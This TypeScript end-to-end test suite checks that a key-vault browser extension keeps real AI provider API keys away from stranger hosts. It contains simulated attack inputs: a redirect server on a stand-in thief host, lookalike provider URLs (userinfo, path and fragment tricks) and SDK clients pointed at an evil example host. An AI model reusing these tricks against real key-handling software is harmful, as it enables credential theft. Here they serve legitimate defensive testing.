/** Where a key may go, and in which place of a request: C29, C30, C34. */
import type { ProviderId } from '@valetkey/wallet/protocol'
import type { Page } from 'puppeteer'
import { describe, expect, it } from 'vitest'
import { APP, CHAT_URL, OTHER, chatInit, fetchFrom, useWorld } from '../e2e/world.ts'
import { askFrom } from '../support/driving/extension-messages.ts'
import { findKey } from '../support/key-forms.ts'
import type { FrontRequest } from '../support/tls-front.ts'

const THIEF = 'https://thief.example.test'
const EVIL = 'https://evil.example.test'
/** Begins like the provider's host, and is the stranger's. */
const LOOKALIKE = 'api.openai.com.evil.example.test'
const GEMINI = 'https://generativelanguage.googleapis.com/v1beta/models'
const TRANSCRIPTIONS = 'https://api.openai.com/v1/audio/transcriptions'
/** Where any of the providers looks for a key. */
const CREDENTIALS = ['authorization', 'x-api-key', 'x-goog-api-key', 'api-key', 'cookie']

describe('a stranger that points at a provider', () => {
  const world = useWorld('site', { appHosts: ['thief.example.test'] })

  /** A request the browser made by itself carries nothing of ours: at most what the page put there. */
  function expectUntouched(sent: FrontRequest, valetKey: string | null): void {
    const credentials = CREDENTIALS.flatMap((name) => sent.headers[name] ?? [])
    const worth = credentials.filter((value) => value.replace(/^Bearer /, '') !== valetKey)
    expect(worth, `${sent.method} ${sent.host}`).toEqual([])
    // The one rule we have takes the origin off our own requests, never off a page's.
    expect(sent.headers['origin'], `${sent.method} ${sent.host}`).toBe('null')
  }

  it('C29: who is sent on to a provider arrives there with the valet key at most', async () => {
    world.fakes.expectValetKeys(true)
    world.apps.serve('/on', sendOn)
    const [openai, anthropic, google] = await Promise.all(
      (['openai', 'anthropic', 'google'] as const).map((id) => world.driver.valetKey(APP, id)),
    )
    const messages = 'https://api.anthropic.com/v1/messages'
    const cases: [to: string, init: object, valetKey: string | null][] = [
      [CHAT_URL, chatInit(openai ?? ''), openai ?? ''],
      [CHAT_URL, chatInit('of-somebody-else'), null],
      [CHAT_URL, { method: 'POST', body: '{}' }, null],
      [messages, { ...chatInit(''), headers: { 'x-api-key': anthropic } }, anthropic ?? ''],
      [`${GEMINI}?key=${google ?? ''}`, {}, google ?? ''],
      [`${GEMINI}?key=${google ?? ''}`, { headers: { 'x-goog-api-key': google } }, google ?? ''],
    ]
    for (const from of [await world.emptyPage(), await world.emptyPage(OTHER)]) {
      for (const [to, init, valetKey] of cases) {
        world.fakes.reset()
        world.fakes.expectValetKeys(true)
        const reply = await fetchFrom(from, `${THIEF}/on?${encodeURIComponent(to)}`, init)

        expect(reply.status, to).not.toBe(200)
        expect(world.fakes.requests.length, to).toBeGreaterThan(0)
        for (const sent of world.fakes.requests) expectUntouched(sent, valetKey)
        expect(world.fakes.requests.map(({ key }) => key).filter((key) => key !== null)).toEqual([])
      }
    }
    expect(realKeysIn(world.apps.requests, world.keys)).toEqual([])
  })

  it('C29: an address typed, an image and a beacon that are sent on arrive with nothing at all', async () => {
    world.apps.serve('/on', sendOn)
    const page = await world.emptyPage()
    const target = `${THIEF}/on?${encodeURIComponent(`${GEMINI}/gemini-2.5-flash`)}`
    await page.evaluate(async (src) => {
      await new Promise((resolve) => {
        const image = new Image()
        image.onerror = resolve
        image.src = src
      })
      navigator.sendBeacon(src, 'x')
    }, target)
    await expect.poll(() => world.fakes.requests.length, { timeout: 5000 }).toBe(2)
    await page.goto(target)

    // The browser may ask for an icon too: that arrives as bare.
    const asked = world.fakes.requests.map(({ method, path }) => `${method} ${path}`)
    expect(asked.filter((one) => one !== 'GET /favicon.ico')).toEqual([
      'GET /v1beta/models/gemini-2.5-flash',
      'POST /v1beta/models/gemini-2.5-flash',
      'GET /v1beta/models/gemini-2.5-flash',
    ])
    for (const sent of world.fakes.requests) {
      expect(sent.key).toBeNull()
      expect(CREDENTIALS.flatMap((name) => sent.headers[name] ?? [])).toEqual([])
    }
  })
})

describe('a client that was told of another address', () => {
  const world = useWorld('site', { appHosts: [LOOKALIKE] })
  const CLIENTS: readonly [client: string, name: string, provider: ProviderId][] = [
    ['openai', 'chat', 'openai'],
    ['openai', 'chat stream', 'openai'],
    ['@anthropic-ai/sdk', 'messages', 'anthropic'],
    ['@google/genai', 'generateContent', 'google'],
    ['groq-sdk', 'chat', 'groq'],
  ]

  it('C30: sends the worthless key there, is served by nobody, and the person is told where it went', async () => {
    const page = await world.driver.newPage(`${APP}/clients`)
    await page.waitForFunction(() => document.title === 'Clients ready')
    for (const [client, name, provider] of CLIENTS) {
      const apiKey = await world.driver.valetKey(APP, provider)
      const before = world.fakes.attackerRequests.length
      await runClient(page, [client, name], { apiKey, prompt: 'Hi', baseUrl: `${EVIL}/v1` })
      const seen = world.fakes.attackerRequests.slice(before)

      expect(
        seen.some(({ valetKeys }) => valetKeys.includes(apiKey)),
        client,
      ).toBe(true)
      expect(realKeysIn(seen, world.keys), client).toEqual([])
    }
    expect(world.fakes.requests).toEqual([])
    expect((await siteOf(APP)).foreignHost).toBe('evil.example.test')
  })

  it.each([
    `https://${LOOKALIKE}/v1/chat/completions`,
    'https://evil.example.test/v1/chat/completions?url=https://api.openai.com/v1/chat/completions',
    'https://evil.example.test/https://api.openai.com/v1/chat/completions',
    'https://api.openai.com@evil.example.test/v1/chat/completions',
    'https://evil.example.test:443/v1/chat/completions#api.openai.com',
  ])('C30: an address that only looks like the provider’s gets no key: %s', async (url) => {
    world.apps.serve('/v1/chat/completions', letIn)
    const page = await world.emptyPage()
    const apiKey = await world.driver.valetKey(APP, 'openai')
    await fetchFrom(page, url, chatInit(apiKey))

    expect(world.fakes.requests).toEqual([])
    const strangers = [...world.fakes.attackerRequests, ...world.apps.requests]
    expect(realKeysIn(strangers, world.keys)).toEqual([])
  })

  async function siteOf(origin: string) {
    const popup = await world.window('popup.html')
    const site = await askFrom(popup, 'site.get', { origin })
    await popup.close()
    return site
  }
})

describe('a key in a place where it does not belong', () => {
  const world = useWorld('site')

  it('C34: in the query it is taken out, under each of its names, and the vault sets its own', async () => {
    const page = await world.emptyPage()
    const google = await world.driver.valetKey(APP, 'google')
    const openai = await world.driver.valetKey(APP, 'openai')
    const generate = `${GEMINI}/gemini-2.5-flash:generateContent`
    const question = { method: 'POST', body: '{"contents":[{"parts":[{"text":"Hi"}]}]}' }
    const cases: [url: string, init: object, provider: 'google' | 'openai', rest: string][] = [
      [`${generate}?key=${google}`, question, 'google', ''],
      [`${generate}?key=${google}&key=${google}&alt=json`, question, 'google', '?alt=json'],
      [`${generate}?%6bey=${google}&KEY=other`, question, 'google', ''],
      [`${GEMINI}?pageSize=5&key=${google}`, {}, 'google', '?pageSize=5'],
      [`${CHAT_URL}?api_key=${openai}&a=1`, chatInit(''), 'openai', '?a=1'],
      [`${CHAT_URL}?apikey=${openai}&access_token=x&token=y`, chatInit(''), 'openai', ''],
      [`${CHAT_URL}?api-key=${openai}`, chatInit(openai), 'openai', ''],
    ]
    for (const [url, init, provider, rest] of cases) {
      world.fakes.reset()
      const reply = await fetchFrom(page, url, init)
      const [sent] = world.fakes.requests

      expect([reply.status, world.fakes.requests.length], url).toEqual([200, 1])
      expect(sent?.path, url).toBe(new URL(url).pathname + rest)
      expect([sent?.key, sent?.valetKeys], url).toEqual([world.keys[provider], []])
      expect(credentialsOf(sent), url).toHaveLength(1)
    }
  })

  it('C34: in a JSON body it is taken out, under each of its names', async () => {
    const page = await world.emptyPage()
    const apiKey = await world.driver.valetKey(APP, 'openai')
    for (const name of ['api_key', 'apiKey', 'api-key', 'key', 'access_token']) {
      world.fakes.reset()
      const reply = await fetchFrom(
        page,
        CHAT_URL,
        chatInit(apiKey, { [name]: apiKey, user: 'me' }),
      )
      const [sent] = world.fakes.requests

      expect(reply.status, name).toBe(200)
      expect([sent?.key, sent?.valetKeys], name).toEqual([world.keys.openai, []])
      const body = JSON.parse(sent?.body.toString() ?? '') as Record<string, unknown>
      expect([body['user'], Object.keys(body).includes(name)], name).toEqual(['me', false])
    }
  })

  it('C34: in a form it is taken out too', async () => {
    await switchOnFor('transcription')
    world.fakes.behave({ body: '{"text":"Hi"}', contentType: 'application/json' })
    const page = await world.emptyPage()
    const apiKey = await world.driver.valetKey(APP, 'openai')
    const answered = page.evaluate(
      async (url, valetKey) => {
        const form = new FormData()
        form.append('model', 'whisper-1')
        form.append('api_key', valetKey)
        form.append('file', new Blob(['RIFF'], { type: 'audio/wav' }), 'a.wav')
        const headers = { authorization: `Bearer ${valetKey}` }
        return (await fetch(url, { method: 'POST', headers, body: form })).status
      },
      TRANSCRIPTIONS,
      apiKey,
    )
    // What a recording costs is not known before it was heard: the person is asked.
    await world.driver.answerConsent('allow')
    const status = await answered
    const [sent] = world.fakes.requests

    expect([status, sent?.key, sent?.valetKeys]).toEqual([200, world.keys.openai, []])
    expect(sent?.body.toString()).toContain('name="model"')
    expect(sent?.body.toString()).not.toContain('api_key')
  })

  /** Switches the app on anew, for one thing more. */
  async function switchOnFor(capability: 'transcription'): Promise<void> {
    const popup = await world.window('popup.html')
    const { grant } = await askFrom(popup, 'site.get', { origin: APP })
    await askFrom(popup, 'site.switch_off', { origin: APP })
    await popup.close()
    if (!grant) throw new TypeError(`${APP} is not switched on.`)
    const providers = grant.terms.providers.map((one) => ({
      ...one,
      capabilities: [...one.capabilities, capability],
    }))
    // A recording is bound by the longest there could be.
    const budgets = [{ usd: '1000.00', window: 'month' as const }]
    await world.driver.switchOnSite(APP, { ...grant.terms, providers, budgets })
  }
})

/** The stranger's server: lets everything in. */
function letIn(request: FrontRequest) {
  const headers: Record<string, string> = {
    'access-control-allow-origin': request.headers['origin'] ?? '*',
    'access-control-allow-headers': request.headers['access-control-request-headers'] ?? '*',
    'access-control-allow-methods': '*',
  }
  return { status: request.method === 'OPTIONS' ? 204 : 200, body: '', headers }
}

/** The same, and sends it on to the address in its query. */
function sendOn(request: FrontRequest) {
  const answer = letIn(request)
  if (request.method === 'OPTIONS') return answer
  const location = decodeURIComponent(request.path.split('?')[1] ?? '')
  return { ...answer, status: 307, headers: { ...answer.headers, location } }
}

function realKeysIn(
  requests: readonly FrontRequest[],
  keys: Readonly<Record<ProviderId, string>>,
): string[] {
  return requests.flatMap(({ path, headers, body }) => {
    const all = Buffer.concat([Buffer.from(`${path}\n${JSON.stringify(headers)}\n`), body])
    return Object.entries(keys).flatMap(([id, key]) => (findKey(all, key) ? [`${id} ${path}`] : []))
  })
}

function credentialsOf(sent: FrontRequest | undefined): string[] {
  return CREDENTIALS.filter((name) => sent?.headers[name] !== undefined)
}

/** Runs a case of an official client in the page, whatever becomes of it. */
function runClient(
  page: Page,
  [client, name]: readonly [client: string, name: string],
  input: { apiKey: string; prompt: string; baseUrl: string },
) {
  return page.evaluate(
    (...[clientName, caseName, given]) => window.runClient(clientName, caseName, given),
    client,
    name,
    input,
  )
}
